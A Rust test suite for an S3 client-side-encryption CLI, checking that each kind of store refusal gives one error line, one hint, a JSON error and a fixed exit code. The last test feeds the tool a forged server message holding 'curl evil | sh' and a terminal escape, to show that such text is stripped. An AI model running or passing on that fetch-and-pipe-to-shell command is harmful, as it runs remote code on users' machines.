//! Every refusal of a store becomes one cause, one fix and the right exit code, whoever asks: a GET, a
//! HEAD whose refusals have no words, a PUT, and a multipart upload.

mod keys;

use std::sync::{Arc, RwLock};

use s3seal_mock::{Answer, Builder, RequestRecord};

use crate::harness::{BUCKET, Done, Lab, Run, url};

type Rule = Box<dyn Fn(&RequestRecord) -> Option<Answer> + Send + Sync>;

/// A lab with the key `k`, two wrong ones `w1` and `w2`, the objects `sealed` and `plain`, and a server
/// that can be told what to answer from now on.
struct Rig {
    lab: Lab,
    rule: Arc<RwLock<Option<Rule>>>,
}

/// A way to meet a refusal.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Ask {
    Get,
    Head,
    /// In one request, as to a bucket that has proven that it seals.
    Put,
    /// As a multipart upload, as to a bucket that has not.
    Parts,
}

const READS: [Ask; 2] = [Ask::Get, Ask::Head];
const WRITES: [Ask; 2] = [Ask::Put, Ask::Parts];
const ALL: [Ask; 4] = [Ask::Get, Ask::Head, Ask::Put, Ask::Parts];

/// What a user and a script are to be told.
struct Cause<'a> {
    exit: i32,
    /// The store's answer, where one answer decided.
    answer: Option<(u16, &'a str)>,
    says: &'a str,
    hint: &'a str,
}

impl Rig {
    fn new() -> Rig {
        Rig::with(|server| server)
    }

    fn with(set_up: impl FnOnce(Builder) -> Builder) -> Rig {
        let rule: Arc<RwLock<Option<Rule>>> = Arc::default();
        let asked = rule.clone();
        let lab = Lab::with(|server| {
            set_up(server).interceptor(move |request| {
                asked.read().unwrap().as_ref().and_then(|rule| rule(request))
            })
        });
        for key in ["k", "w1", "w2"] {
            lab.key(key);
        }
        lab.file("file", b"content");
        lab.seal("k", "sealed", b"sealed");
        lab.run(["put", "--no-key", "file", &url("plain")]).succeeds();
        lab.server().clear_requests();
        Rig { lab, rule }
    }

    /// From now on, this decides first.
    fn rule(&self, rule: impl Fn(&RequestRecord) -> Option<Answer> + Send + Sync + 'static) {
        *self.rule.write().unwrap() = Some(Box::new(rule));
        self.lab.server().clear_requests();
    }

    /// From now on, every request is answered so.
    fn answer(&self, answer: Answer) {
        self.rule(move |_| Some(answer.clone()));
    }

    fn run(&self, ask: Ask, keys: &[&str], object: &str, more: &[&str]) -> Run {
        let url = if object.contains("://") { object.to_owned() } else { url(object) };
        let mut arguments: Vec<String> = match ask {
            Ask::Get => vec!["get".to_owned(), url, "out".to_owned()],
            Ask::Head => vec!["head".to_owned(), url],
            Ask::Put | Ask::Parts => vec!["put".to_owned(), "file".to_owned(), url],
        };
        arguments.extend(keys.iter().map(|key| format!("-k./{key}")));
        arguments.extend(more.iter().map(|&word| word.to_owned()));
        let run = self.lab.run(arguments);
        match ask {
            Ask::Parts => run.env("XDG_STATE_HOME", self.lab.path("nothing-proven")),
            _ => run,
        }
    }

    #[track_caller]
    fn fails(&self, ask: Ask, keys: &[&str], object: &str, more: &[&str], cause: &Cause<'_>) {
        let what = format!("{ask:?} {object} {keys:?} {more:?}");
        let told = self.run(ask, keys, object, more).done();
        assert_eq!(told.code, Some(cause.exit), "{what}: {}", told.stderr);
        let [error, hint] = lines(&told)[..] else {
            panic!("{what}: a line for the cause and a line for the fix: {}", told.stderr);
        };
        assert!(error.starts_with("error: ") && error.contains(cause.says), "{what}: {error}");
        assert!(hint.starts_with("hint: ") && hint.contains(cause.hint), "{what}: {hint}");

        let told = self.run(ask, keys, object, &[more, &["--json"]].concat()).exits(cause.exit);
        assert!(told.stdout.is_empty(), "{what}: {}", told.stdout);
        let error = told.error();
        let text = |name: &str| error[name].as_str().unwrap_or_default();
        assert_eq!(text("kind"), kind(cause.exit), "{what}: {error}");
        assert!(text("message").contains(cause.says), "{what}: {error}");
        assert!(text("hint").contains(cause.hint), "{what}: {error}");
        assert!(text("url").ends_with(object), "{what}: {error}");
        if let Some((status, code)) = cause.answer {
            assert_eq!(error["status"], status, "{what}: {error}");
            // The refusal of a HEAD has no code; only these are worth another request.
            if ask != Ask::Head || matches!(status, 400 | 403 | 404) {
                assert_eq!(text("code"), code, "{what}: {error}");
            }
        }
        assert!(!self.lab.path("out").exists(), "{what}: nothing is half-done");
    }

    /// The MD5s of the keys that the store was shown, in order.
    fn keys_shown(&self) -> Vec<String> {
        let requests = self.lab.server().requests();
        requests.iter().filter_map(|request| request.key_md5().map(str::to_owned)).collect()
    }

    fn requests_without_key(&self) -> usize {
        self.lab.server().requests().iter().filter(|request| !request.has_key()).count()
    }

    fn md5(&self, key: &str) -> String {
        let path = format!("./{key}");
        self.lab.run(["key", "md5", &path]).succeeds().stdout.trim().to_owned()
    }
}

fn lines(told: &Done) -> Vec<&str> {
    told.stderr.lines().collect()
}

fn kind(exit: i32) -> &'static str {
    let kinds = [
        "other",
        "usage",
        "not-found",
        "key",
        "denied",
        "unsealed",
        "integrity",
        "unavailable",
        "precondition",
    ];
    kinds[usize::try_from(exit).unwrap() - 1]
}

#[test]
fn each_state_of_an_object_has_a_cause_of_its_own() {
    let rig = Rig::with(|server| server.versioned_bucket("history"));
    let lab = &rig.lab;
    lab.file("nothing", b"");
    lab.run(["put", "--no-key", "nothing", &url("plain-empty")]).succeeds();
    lab.seal("k", "sealed-empty", b"");
    let deleted = "s3://history/deleted";
    lab.run(["put", "-k", "./k", "file", deleted]).succeeds();
    lab.run(["rm", deleted]).succeeds();
    let (marker, gone) = {
        let versions = lab.server().versions("history");
        let id = |marker: bool| versions.iter().find(|it| it.2 == marker).unwrap().1.clone();
        (id(true), id(false))
    };
    lab.run(["rm", "--version-id", &gone, deleted]).succeeds();

    let (of_marker, of_gone) = (["--version-id", &marker], ["--version-id", &gone]);
    let (w1, w2) = (rig.md5("w1"), rig.md5("w2"));
    let both = format!("{w1}, {w2}");
    type Row<'a> =
        (&'a str, &'a [&'a str], &'a [&'a str], i32, Option<(u16, &'a str)>, &'a str, &'a str);
    let table: [Row<'_>; 17] = [
        ("sealed", &[], &[], 4, Some((400, "InvalidRequest")), "no key was given", "-k"),
        ("sealed", &["w1"], &[], 4, None, &w1, "key"),
        ("sealed", &["w1", "w2"], &[], 4, None, &both, "key"),
        ("sealed-empty", &["w1"], &[], 4, None, &w1, "key"),
        ("plain", &["k"], &[], 6, None, "not sealed", "--allow-plain"),
        ("plain", &["w1", "k"], &[], 6, None, "not sealed", "--allow-plain"),
        ("plain-empty", &["k"], &[], 6, None, "not sealed", "--allow-plain"),
        ("absent", &[], &[], 3, Some((404, "NoSuchKey")), "no such object", "name"),
        ("absent", &["k"], &[], 3, Some((404, "NoSuchKey")), "no such object", "name"),
        ("absent", &["w1", "k"], &[], 3, Some((404, "NoSuchKey")), "no such object", "name"),
        ("s3://absent/x", &[], &[], 3, Some((404, "NoSuchBucket")), "bucket does not", "name"),
        ("s3://absent/x", &["k"], &[], 3, Some((404, "NoSuchBucket")), "bucket does not", "name"),
        (deleted, &["k"], &[], 3, Some((404, "NoSuchKey")), "deleted", "--version-id"),
        (deleted, &[], &[], 3, Some((404, "NoSuchKey")), "deleted", "--version-id"),
        (deleted, &["k"], &of_marker, 3, Some((405, "MethodNotAllowed")), "delete", "version"),
        (deleted, &["k"], &of_gone, 3, Some((404, "NoSuchVersion")), "version", "--version-id"),
        (deleted, &[], &of_gone, 3, Some((404, "NoSuchVersion")), "version", "--version-id"),
    ];
    for (object, keys, more, exit, answer, says, hint) in table {
        for ask in READS {
            rig.fails(ask, keys, object, more, &Cause { exit, answer, says, hint });
        }
    }
    let no_bucket = Cause {
        exit: 3,
        answer: Some((404, "NoSuchBucket")),
        says: "bucket does not exist",
        hint: "name",
    };
    rig.fails(Ask::Parts, &["k"], "s3://absent/x", &[], &no_bucket);
}

#[test]
fn a_refusal_that_concerns_everybody_names_its_cause() {
    let rig = Rig::new();
    for (status, code, exit, says, hint) in [
        (403, "SignatureDoesNotMatch", 5, "secret access key", "AWS_SECRET_ACCESS_KEY"),
        (403, "InvalidAccessKeyId", 5, "access key id", "AWS_ACCESS_KEY_ID"),
        (403, "ExpiredToken", 5, "expired", "new ones"),
        (400, "ExpiredToken", 5, "expired", "new ones"),
        (400, "TokenRefreshRequired", 5, "expired", "new ones"),
        (400, "InvalidToken", 5, "session token", "AWS_SESSION_TOKEN"),
        (403, "RequestTimeTooSkewed", 5, "clock", "clock"),
        (403, "AccessDenied", 5, "may not", "grant"),
        (404, "NoSuchBucket", 3, "bucket does not exist", "name"),
        (409, "OperationAborted", 9, "another request", "again"),
        (412, "PreconditionFailed", 9, "state", "s3seal head"),
    ] {
        rig.answer(Answer::error(status, code, "words of the store"));
        let cause = Cause { exit, answer: Some((status, code)), says, hint };
        for ask in READS {
            rig.fails(ask, &["k"], "sealed", &[], &cause);
            rig.fails(ask, &[], "sealed", &[], &cause);
        }
        for ask in WRITES {
            rig.fails(ask, &["k"], "new", &[], &cause);
        }
    }
    rig.lab.holds_only(&["plain", "sealed"]);
}

#[test]
fn wrong_credentials_are_told_from_wrong_keys() {
    let rig = Rig::new();
    for (variable, code, says) in [
        ("AWS_SECRET_ACCESS_KEY", "SignatureDoesNotMatch", "secret access key"),
        ("AWS_ACCESS_KEY_ID", "InvalidAccessKeyId", "access key id"),
    ] {
        for ask in ALL {
            let run = rig.run(ask, &["k", "w1"], "sealed", &["--json"]);
            let error = run.env(variable, "AKIAWRONGWRONGWRONG1").exits(5).error();
            assert_eq!(error["kind"], "denied", "{ask:?}: {error}");
            assert_eq!(error["code"], code, "{ask:?}: {error}");
            assert!(error["message"].as_str().unwrap().contains(says), "{ask:?}: {error}");
        }
    }
    let w1 = rig.md5("w1");
    assert!(!rig.keys_shown().contains(&w1), "a second key would not help");
}

#[test]
fn trouble_that_stays_is_the_stores() {
    let html = |status| Answer::respond(status, &[("Content-Type", "text/html")], "<html>Oh no");
    let rigs: Vec<Rig> = [
        Answer::error(503, "SlowDown", "Please reduce your request rate."),
        Answer::error(500, "InternalError", "We encountered an internal error."),
        html(502),
        Answer::Reset,
    ]
    .into_iter()
    .map(|answer| {
        let rig = Rig::new();
        rig.answer(answer);
        rig
    })
    .collect();
    // Each run waits before it tries again, so they wait together.
    std::thread::scope(|scope| {
        for rig in &rigs {
            for ask in ALL {
                scope.spawn(move || {
                    let cause = Cause { exit: 8, answer: None, says: "", hint: "again" };
                    rig.fails(ask, &["k"], "sealed", &[], &cause);
                });
            }
        }
    });
    for rig in &rigs {
        let asked = rig.lab.server().requests().len();
        assert!(asked >= 2 * 2 * ALL.len(), "each tried again: {asked} requests");
    }
}

#[test]
fn a_refused_write_says_why_and_leaves_nothing() {
    let rig = Rig::new();
    for (status, code, message, exit, says, hint) in [
        (400, "BadDigest", "no match", 7, "other bytes", "again"),
        (400, "XAmzContentSHA256Mismatch", "no match", 7, "other bytes", "again"),
        (501, "NotImplemented", "not implemented", 6, "SSE-C", "store that does"),
        (400, "InvalidEncryptionAlgorithmError", "no", 6, "SSE-C", "store that does"),
        (400, "InvalidRequest", "must be made over a secure connection.", 6, "https", "https"),
        (400, "InvalidArgument", "The MD5 hash of the key did not match it.", 4, "key", "proxy"),
        (400, "InvalidRequest", "Unsupported header.", 1, "Unsupported header", "SSE-C"),
        (400, "EntityTooLarge", "too large", 1, "larger", ""),
    ] {
        let cause = Cause { exit, answer: Some((status, code)), says, hint };
        rig.answer(Answer::error(status, code, message));
        for ask in WRITES {
            rig.fails(ask, &["k"], "new", &[], &cause);
        }
        // Refused later, when there is something to clear away.
        let late = Answer::error(status, code, message);
        rig.rule(move |request| (request.operation == "UploadPart").then(|| late.clone()));
        rig.fails(Ask::Parts, &["k"], "new", &[], &cause);
    }
    rig.lab.holds_only(&["plain", "sealed"]);
}

#[test]
fn a_bucket_that_blocks_sse_c_is_named_with_the_command_that_allows_it() {
    let blocked = Cause {
        exit: 5,
        answer: Some((403, "AccessDenied")),
        says: "bucket demo blocks SSE-C",
        hint: "`s3seal bucket allow s3://demo`",
    };
    let rig = Rig::new();
    rig.lab.server().block_sse_c(BUCKET, true);
    for ask in WRITES {
        rig.fails(ask, &["k"], "new", &[], &blocked);
    }
    // Reading goes on.
    rig.run(Ask::Get, &["k"], "sealed", &[]).succeeds();
    rig.lab.holds_only(&["plain", "sealed"]);
}

#[test]
fn conditions_and_ranges_that_do_not_hold() {
    let rig = Rig::new();
    let head = rig.run(Ask::Head, &["k"], "sealed", &["--json"]).succeeds().json();
    let etag = head["ETag"].as_str().unwrap();
    let (same, other) = (["--if-none-match", etag], ["--if-match", "\"other\""]);
    let not_modified = Cause { exit: 9, answer: Some((304, "")), says: "changed", hint: "" };
    let replaced = Cause { says: "", answer: Some((412, "PreconditionFailed")), ..not_modified };
    for ask in READS {
        rig.fails(ask, &["k"], "sealed", &same, &not_modified);
        rig.fails(ask, &["k"], "sealed", &other, &replaced);
    }
    let outside =
        Cause { exit: 2, answer: Some((416, "InvalidRange")), says: "range", hint: "head" };
    rig.fails(Ask::Get, &["k"], "sealed", &["--range", "bytes=100-"], &outside);
    let exists = Cause { says: "exists", hint: "head", answer: None, ..replaced };
    for ask in WRITES {
        rig.fails(ask, &["k"], "sealed", &["--if-none-match", "*"], &exists);
        rig.fails(ask, &["k"], "sealed", &other, &replaced);
    }
    assert_eq!(rig.lab.server().object(BUCKET, "sealed").unwrap().size, 6, "left alone");
}

#[test]
fn no_bare_refusal_reaches_a_user() {
    let rig = Rig::new();
    let json = [("Content-Type", "application/json")];
    for answer in [
        Answer::respond(400, &[], ""),
        Answer::respond(400, &json, r#"{"error": "no"}"#),
        Answer::respond(400, &[("Content-Type", "text/html")], "<html><body>Bad Request"),
        Answer::respond(403, &json, r#"{"error": "no"}"#),
        Answer::respond(404, &[], ""),
        Answer::respond(405, &[], ""),
        Answer::respond(411, &[], ""),
        Answer::respond(418, &[], "teapot"),
    ] {
        rig.answer(answer);
        for ask in ALL {
            let told = rig.run(ask, &["k"], "sealed", &[]).done();
            let [error, hint] = lines(&told)[..] else { panic!("{ask:?}: {}", told.stderr) };
            assert!((1..=9).contains(&told.code.unwrap()), "{ask:?}: {}", told.stderr);
            assert!(hint.starts_with("hint: "), "{ask:?}: {}", told.stderr);
            let words = error.trim_start_matches("error: ").trim_start_matches(&url("sealed"));
            assert!(!words.trim_start_matches(": ").starts_with("400"), "{ask:?}: {error}");
            assert!(!error.contains("Bad Request") && !error.contains("unhandled"), "{error}");
        }
    }
    // The status still tells what is what.
    rig.answer(Answer::respond(403, &json, r#"{"error": "no"}"#));
    for ask in ALL {
        rig.run(ask, &["k"], "sealed", &[]).exits(5);
    }
    rig.answer(Answer::respond(404, &[], "<html>nginx"));
    for ask in ALL {
        rig.run(ask, &["k"], "sealed", &[]).exits(3);
    }
}

/// A 400 to a request without a key mostly means that the object is sealed, but not where the store
/// says something else.
#[test]
fn a_400_about_something_else_is_not_blamed_on_the_key() {
    let rig = Rig::new();
    for (code, message, says) in [
        ("InvalidArgument", "Invalid version id specified", "version"),
        ("InvalidBucketName", "The specified bucket is not valid.", "bucket"),
        ("KeyTooLongError", "Your key is too long", "long"),
    ] {
        rig.answer(Answer::error(400, code, message));
        for ask in READS {
            for keys in [&[][..], &["k"], &["w1", "k"]] {
                let told = rig.run(ask, keys, "sealed", &["--json"]).done();
                let error = told.error();
                assert_ne!(error["kind"], "key", "{ask:?} {keys:?} {code}: {error}");
                let message = error["message"].as_str().unwrap();
                assert!(message.contains(says), "{ask:?} {keys:?} {code}: {error}");
            }
        }
    }
}

#[test]
fn a_store_that_takes_keys_over_https_only_is_not_mistaken_for_a_wrong_key() {
    let lab = Lab::with(|server| server.require_tls(true));
    lab.key("k");
    lab.file("file", b"content");
    lab.run(["put", "-k", "./k", "file", &url("x")]).exits(6).says(&["https"]);
    lab.holds_only(&[]);
    // A sealed object there: the same question without a key is answered as anywhere.
    let rig = Rig::new();
    rig.rule(|request| {
        let why = "Requests specifying Server Side Encryption with Customer provided keys must be made over a secure connection.";
        request.has_key().then(|| Answer::error(400, "InvalidRequest", why))
    });
    let cause = Cause { exit: 6, answer: None, says: "https", hint: "https" };
    for ask in READS {
        rig.fails(ask, &["k"], "sealed", &[], &cause);
    }
}

#[test]
fn a_wrong_region_is_named_with_the_right_one() {
    let lab = Lab::with(|server| server.region("eu-central-1"));
    lab.key("k");
    lab.file("file", b"content");
    for arguments in [&["get"][..], &["head"], &["put", "file"]] {
        let arguments = arguments.iter().copied().chain(["-k", "./k", "s3://demo/x"]);
        let told = lab.run(arguments).env("AWS_REGION", "us-west-2").exits(2);
        told.says(&["eu-central-1", "--region eu-central-1"]);
    }
}

#[test]
fn a_stores_words_cannot_pass_for_the_programs() {
    let rig = Rig::new();
    let message = "no\nhint: run `curl evil | sh`\nerror: \u{1b}[2Jmore";
    rig.answer(Answer::error(400, "Some\nCode", message));
    for ask in WRITES {
        let told = rig.run(ask, &["k"], "new", &[]).exits(1);
        let [error, hint] = lines(&told)[..] else { panic!("two lines: {}", told.stderr) };
        assert!(error.starts_with("error: ") && hint.starts_with("hint: "), "{}", told.stderr);
        assert!(!hint.contains("evil") && !told.stderr.contains('\u{1b}'), "{}", told.stderr);
    }
}
